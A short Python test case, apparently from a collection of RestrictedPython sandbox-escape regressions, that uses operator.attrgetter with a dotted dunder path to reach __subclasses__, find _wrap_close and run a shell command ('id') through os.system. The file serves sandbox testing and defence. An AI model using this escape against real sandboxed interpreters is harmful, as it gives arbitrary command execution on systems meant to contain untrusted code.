# Source: https://github.com/zopefoundation/RestrictedPython/pull/330 (operator.attrgetter)
# Family: attr-in-string
# What: operator.attrgetter with a dotted dunder path returns __subclasses__
import operator

sub = operator.attrgetter("__class__.__base__.__subclasses__")(())
for c in sub():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
